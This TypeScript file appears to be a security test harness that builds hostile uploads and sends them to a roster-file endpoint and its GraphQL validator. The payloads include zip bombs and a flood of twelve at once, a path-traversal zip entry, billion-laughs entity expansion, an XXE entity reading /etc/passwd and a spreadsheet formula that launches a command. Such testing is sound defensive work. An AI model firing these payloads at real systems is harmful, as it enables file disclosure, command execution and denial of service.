// Attacks by file: bombs, entity expansion, far corners, formulas, odd encodings, too many rows, many of them at once.
import { strToU8, zipSync } from 'fflate';
import { type Answer, type Attack, flood, send, type Target } from './attack';

const MB = 1024 * 1024;

const VALIDATE = `mutation($input: RosterFileInput!) {
  validateRoster(input: $input) { report { accepted issues(first: 20) { totalCount nodes { code sheet row } } } userErrors { code } } }`;

interface Upload {
  readonly name: string;
  readonly bytes: () => Uint8Array;
  /** Stored, and then judged as a roster. */
  readonly judged: boolean;
}

const zipOf = (files: Readonly<Record<string, Uint8Array>>): Uint8Array => zipSync(files, { level: 9 });

const MAIN = 'http://schemas.openxmlformats.org';

function workbook(sheet: string, head = ''): Uint8Array {
  const parts = {
    '[Content_Types].xml': `<Types xmlns="${MAIN}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
    '_rels/.rels': `<Relationships xmlns="${MAIN}/package/2006/relationships"><Relationship Id="r1" Type="${MAIN}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    'xl/workbook.xml': `<workbook xmlns="${MAIN}/spreadsheetml/2006/main" xmlns:r="${MAIN}/officeDocument/2006/relationships"><sheets><sheet name="teachers" sheetId="1" r:id="r1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `<Relationships xmlns="${MAIN}/package/2006/relationships"><Relationship Id="r1" Type="${MAIN}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    'xl/worksheets/sheet1.xml': `<?xml version="1.0"?>${head}<worksheet xmlns="${MAIN}/spreadsheetml/2006/main"><sheetData>${sheet}</sheetData></worksheet>`,
  };
  return zipOf(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])));
}

const laughs = `<!DOCTYPE x [<!ENTITY a0 "lol">${Array.from({ length: 12 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`).join('')}]>`;
const rows = (count: number): string =>
  `staff_no,name\n${Array.from({ length: count }, (_, i) => `T${i},x`).join('\n')}`;

const UPLOADS: readonly Upload[] = [
  { name: 'a file over 10 MB', judged: false, bytes: () => Buffer.alloc(10 * MB + 1, 0x61) },
  { name: 'a program', judged: false, bytes: () => Buffer.from('7f454c46020100', 'hex') },
  { name: 'an empty file', judged: false, bytes: () => new Uint8Array() },
  { name: 'half a character in every byte', judged: false, bytes: () => Buffer.alloc(MB, 0xff) },
  {
    name: 'a zip bomb (200 MB)',
    judged: true,
    bytes: () => zipOf({ 'teachers.csv': new Uint8Array(200 * MB) }),
  },
  {
    name: 'a zip in a zip',
    judged: true,
    bytes: () => zipOf({ 'teachers.csv': zipOf({ a: new Uint8Array(64 * MB) }) }),
  },
  {
    name: 'a zip of 5,000 files',
    judged: true,
    bytes: () =>
      zipOf(Object.fromEntries(Array.from({ length: 5000 }, (_, i) => [`${i}.csv`, new Uint8Array()]))),
  },
  {
    name: 'a zip cut in half',
    judged: true,
    bytes: () => zipOf({ 'teachers.csv': strToU8(rows(20_000)) }).subarray(0, 20_000),
  },
  { name: 'a zip that climbs', judged: true, bytes: () => zipOf({ '../../etc/passwd': strToU8('x') }) },
  {
    name: 'entities that expand (XXE)',
    judged: true,
    bytes: () => workbook('<row r="1"><c r="A1" t="inlineStr"><is><t>&a12;</t></is></c></row>', laughs),
  },
  {
    name: 'an entity that reads a file',
    judged: true,
    bytes: () =>
      workbook(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&f;</t></is></c></row>',
        '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
      ),
  },
  {
    name: 'a cell in the far corner',
    judged: true,
    bytes: () => workbook('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
  },
  { name: 'a million empty rows', judged: true, bytes: () => workbook('<row/>'.repeat(1_000_000)) },
  { name: 'formulas', judged: true, bytes: () => strToU8('staff_no,name\n=cmd|"/c calc"!A1,@x\n') },
  { name: '50,001 rows', judged: true, bytes: () => zipOf({ 'teachers.csv': strToU8(rows(50_001)) }) },
  { name: '50,000 wrong rows', judged: true, bytes: () => zipOf({ 'teachers.csv': strToU8(rows(50_000)) }) },
  { name: 'one line of 9 MB', judged: true, bytes: () => Buffer.alloc(9 * MB, 0x61) },
  { name: '9 MB of commas', judged: true, bytes: () => Buffer.alloc(9 * MB, 0x2c) },
  { name: '9 MB of quotes', judged: true, bytes: () => Buffer.alloc(9 * MB, 0x22) },
  { name: 'JSON nested a million deep', judged: true, bytes: () => Buffer.from('['.repeat(1_000_000)) },
  {
    name: 'GB18030 with gaps',
    judged: true,
    bytes: () => Buffer.concat([Buffer.from('d0d5c3fb2cd0d5', 'hex'), Buffer.from([0x0a, 0x81])]),
  },
];

const made = new Map<Upload, Buffer>();

function bodyOf(upload: Upload): Buffer {
  const body = made.get(upload) ?? Buffer.from(upload.bytes());
  made.set(upload, body);
  return body;
}

async function upload(target: Target, file: Upload, at: number): Promise<readonly Answer[]> {
  // Every file is another one: what was read before is not read again.
  const kept = await put(target, bodyOf(file), at);
  if (!file.judged || kept.fileId === null) return [kept.answer];
  const variables = { input: { county: target.county, fileId: kept.fileId } };
  const began = performance.now();
  const judgement = await send(target, '/graphql', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ query: VALIDATE, variables }),
  });
  return [{ ...judgement, ms: performance.now() - began }];
}

async function put(
  target: Target,
  body: Buffer,
  at: number,
): Promise<{ readonly answer: Answer; readonly fileId: string | null }> {
  const began = performance.now();
  try {
    const response = await fetch(`${target.address}/files?name=${at}.zip`, {
      method: 'PUT',
      headers: { 'content-type': 'application/octet-stream', 'x-forwarded-for': target.from },
      body: new Uint8Array(body),
    });
    const text = await response.text();
    const code = /"code":"([A-Z_]+)"/.exec(text)?.[1] ?? null;
    const answer = {
      status: response.status,
      code,
      ms: performance.now() - began,
      bytes: text.length,
      tells: false,
    };
    return { answer, fileId: /"fileId":"([\w-]+)"/.exec(text)?.[1] ?? null };
  } catch {
    const answer = { status: 0, code: 'CLOSED', ms: performance.now() - began, bytes: 0, tells: false };
    return { answer, fileId: null };
  }
}

const BOMB = UPLOADS.find(({ name }) => name.startsWith('a zip bomb'))!;

export const UPLOAD_ATTACKS: readonly Attack[] = [
  ...UPLOADS.map(
    (each): Attack => ({
      name: each.name,
      prepare: () => void bodyOf(each),
      run: (target) => upload(target, each, 0),
    }),
  ),
  {
    name: '12 zip bombs at once',
    prepare: () => void bodyOf(BOMB),
    run: (target) => flood(12, 12, async (i) => (await upload(target, BOMB, i))[0]!),
  },
];
